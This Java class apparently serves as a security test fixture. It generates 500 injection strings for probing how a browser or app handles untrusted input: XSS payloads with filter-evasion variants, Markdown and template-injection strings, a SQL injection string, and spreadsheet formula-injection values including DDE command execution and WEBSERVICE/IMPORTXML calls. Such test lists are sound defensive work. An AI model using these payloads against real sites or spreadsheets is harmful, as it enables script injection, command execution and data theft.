package cn.qudao.browser;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Five hundred texts that somebody types who wants to do harm: scripts for whoever shows them as HTML, as Markdown or in a template,
 * and formulas for whoever opens them in a workbook. A script that runs says so by {@code ran()}.
 */
final class Payloads {

    static final int COUNT = 500;

    /** What the text may have to get out of first. */
    private static final List<String> ENDS = List.of(
            "",
            "\">",
            "'>",
            "`>",
            "</title>",
            "</textarea>",
            "</style>",
            "</script>",
            "</option></select>",
            "-->",
            "]]>",
            "\\\"}]>");

    private static final List<String> SCRIPTS = List.of(
            "<script>ran()</script>",
            "<ScRiPt >ran()</sCrIpT>",
            "<script src=data:,ran()></script>",
            "<img src=x onerror=ran()>",
            "<IMG SRC=x OnErRoR=\"ran()\">",
            "<img/src=x/onerror=ran()>",
            "<img src=x onerror=&#114;an()>",
            "<svg onload=ran()>",
            "<svg><script>ran()</script></svg>",
            "<svg><animate onbegin=ran() attributeName=x dur=1s>",
            "<math><mtext><img src=x onerror=ran()></mtext></math>",
            "<video><source onerror=ran()></video>",
            "<audio src=x onerror=ran()>",
            "<input autofocus onfocus=ran()>",
            "<details open ontoggle=ran()>x</details>",
            "<iframe src=javascript:parent.ran()>",
            "<iframe srcdoc='<script>parent.ran()</script>'>",
            "<object data=javascript:ran()>",
            "<embed src=javascript:ran()>",
            "<body onload=ran()>",
            "<marquee onstart=ran()>x</marquee>",
            "<style onload=ran()></style>",
            "<link rel=stylesheet href=x onerror=ran()>",
            "<template><img src=x onerror=ran()></template>",
            "<form><button autofocus onfocus=ran()>x",
            "<base href=javascript:ran()//>",
            "<a href=javascript:ran()>x</a>",
            "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
            "<xmp><p title=\"</xmp><img src=x onerror=ran()>\">",
            "<b style=animation-name:x onanimationstart=ran()>x</b>");

    /** For attributes, Markdown, templates and styles, as they stand. */
    private static final List<String> OTHERS = List.of(
            "\" onmouseover=ran() x=\"",
            "' autofocus onfocus=ran() x='",
            "\" style=\"background:url(javascript:ran())",
            "javascript:ran()",
            "JaVaScRiPt:ran()",
            "java\tscript:ran()",
            "data:text/html,<script>ran()</script>",
            "vbscript:ran()",
            "[x](javascript:ran())",
            "[x](JAVASCRIPT&colon;ran())",
            "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
            "![x](x\"onerror=\"ran())",
            "![x](javascript:ran())",
            "<javascript:ran()>",
            "[x]: javascript:ran()",
            "[x](<javascript:ran()>)",
            "| a |\n|---|\n| <img src=x onerror=ran()> |",
            "```\"><img src=x onerror=ran()>",
            "`<script>ran()</script>`",
            "# <img src=x onerror=ran()>",
            "{{constructor.constructor('ran()')()}}",
            "${ran()}",
            "#{ran()}",
            "<%= ran() %>",
            "${T(java.lang.Runtime)}",
            "[[${ran()}]]",
            "{0}'{1}\"{",
            "%3Cscript%3Eran()%3C/script%3E",
            "&lt;script&gt;ran()&lt;/script&gt;",
            "&#60;img src=x onerror=ran()&#62;",
            "\\u003cscript\\u003eran()\\u003c/script\\u003e",
            "＜script＞ran()＜/script＞",
            "<scr\u0000ipt>ran()</scr\u0000ipt>".replace("\u0000", ""),
            "\u202e<img src=x onerror=ran()>",
            "'; ran(); '",
            "\"; ran(); \"",
            "`; ran(); `",
            "*/ ran(); /*",
            "'); ran(); ('",
            "1 or 1=1 --");

    /** What a workbook would count or ask for; each also behind what hides its beginning. */
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x\",\"x\")",
            "=WEBSERVICE(\"http://x\")",
            "=IMPORTXML(\"http://x\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\")",
            "=1+1\";=1+1",
            "=A1,=B1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)");

    private static final List<String> HIDING = List.of("", " ", "\t", "\r\n", "\u00a0", "'", "\"");

    private Payloads() {}

    static List<String> all() {
        Set<String> all = new LinkedHashSet<>(OTHERS);
        HIDING.forEach(before -> FORMULAS.forEach(formula -> all.add(before + formula)));
        ENDS.forEach(end -> SCRIPTS.forEach(script -> all.add(end + script)));
        return new ArrayList<>(all).subList(0, COUNT);
    }
}
